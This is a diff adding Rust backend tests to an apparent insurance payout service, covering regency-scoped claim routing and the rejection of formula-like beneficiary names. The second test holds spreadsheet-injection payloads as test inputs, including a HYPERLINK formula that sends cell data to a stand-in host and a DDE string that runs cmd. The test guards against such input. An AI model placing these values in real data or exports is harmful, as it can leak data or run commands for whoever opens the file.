@@ -3,6 +3,7 @@
 mod common;
 
 use common::{TestApp, data, error_code, error_field};
+use jaminan::auth::{Role, create_key};
 use serde_json::{Value, json};
 
 const SUBMIT: &str = "mutation($input: SubmitPayoutInput!) { submitPayout(input: $input) {
@@ -447,4 +448,50 @@ backend_test!(statistics_count_payouts_where_the_coverage_was_paid, |app: TestAp
         assert_eq!(data(&response)["coverageStats"]["payoutsPaid"], 0, "{area}");
         assert_eq!(data(&response)["coverageStats"]["payoutsPaidAmount"], "0", "{area}");
     }
+});
+
+backend_test!(a_claim_goes_under_a_coverage_of_the_callers_scope_holding_on_the_day, |app: TestApp| async move {
+    // Moved from Kota Tangerang (36.71) to Kota Tangerang Selatan (36.74), whose coverage holds on
+    // the day; the older enrollment in 36.71 was never ended.
+    let worker = app.register("3671011505850001", "Pindahan", "36.74", None, "STREET_VENDOR").await;
+    let older = app.enroll(&worker, "36.71", "2022-01-01", None).await;
+    let newer = app.enroll(&worker, "36.74", "2023-01-01", None).await;
+    let db = &app.state.db;
+    let (supervisor_3674, _) =
+        create_key(db, "supervisor 36.74", Role::Supervisor, Some("36.74".into())).await.unwrap();
+    let (operator_3671, _) = create_key(db, "operator 36.71", Role::Operator, Some("36.71".into())).await.unwrap();
+    let care = |incident_on: &str| {
+        let mut care = claim(&worker, "WORK_ACCIDENT_CARE", incident_on);
+        care["amount"] = json!("1500000");
+        care
+    };
+    let payout = data(&submit(&app, &supervisor_3674, care("2024-06-20")).await)["submitPayout"].clone();
+    assert_eq!(payout["coverage"]["id"], newer.as_str());
+    // A key reaching both (an admin) takes the oldest, as before.
+    assert_eq!(submitted(&app, care("2024-06-20")).await["coverage"]["id"], older.as_str());
+    // Before 36.74's coverage began only 36.71's holds: not 36.74's to claim.
+    let response = submit(&app, &supervisor_3674, care("2022-06-20")).await;
+    assert_eq!(error_code(&response), "FORBIDDEN", "{response}");
+    // 36.71 covers the day too, but the worker lives elsewhere and that coverage has no say over
+    // an incident it was enrolled after (the rule on manufactured reach holds).
+    let response = submit(&app, &operator_3671, care("2024-06-20")).await;
+    assert_eq!(error_code(&response), "FORBIDDEN", "{response}");
+
+    // The issue's case: the death benefit, claimed by 36.74 and counted there.
+    let death =
+        data(&submit(&app, &supervisor_3674, claim(&worker, "DEATH", "2024-06-21")).await)["submitPayout"].clone();
+    assert_eq!((death["coverage"]["id"].as_str(), death["amount"].as_str()), (Some(newer.as_str()), Some("42000000")));
+    let listed = "{ payouts(filter: { regencyCode: \"36.74\", benefit: DEATH }) { totalCount } }";
+    assert_eq!(data(&app.gql_as(&app.admin, listed, json!({})).await)["payouts"]["totalCount"], 1);
+});
+
+backend_test!(heirs_names_that_start_like_a_formula_are_refused, |app: TestApp| async move {
+    let (worker, _) = covered_worker(&app, 1, "2023-01-01", "1000000").await;
+    for name in [r#"=HYPERLINK("http://evil.example/?x="&A2,"klik")"#, "+cmd|' /C calc'!A0", " @SUM(1+1)"] {
+        let mut input = claim(&worker, "DEATH", "2024-02-01");
+        input["beneficiaryName"] = json!(name);
+        let response = submit(&app, &app.admin, input).await;
+        assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "beneficiaryName"), "{name}");
+    }
+    assert_eq!(app.count_rows("payout").await, 0);
 });
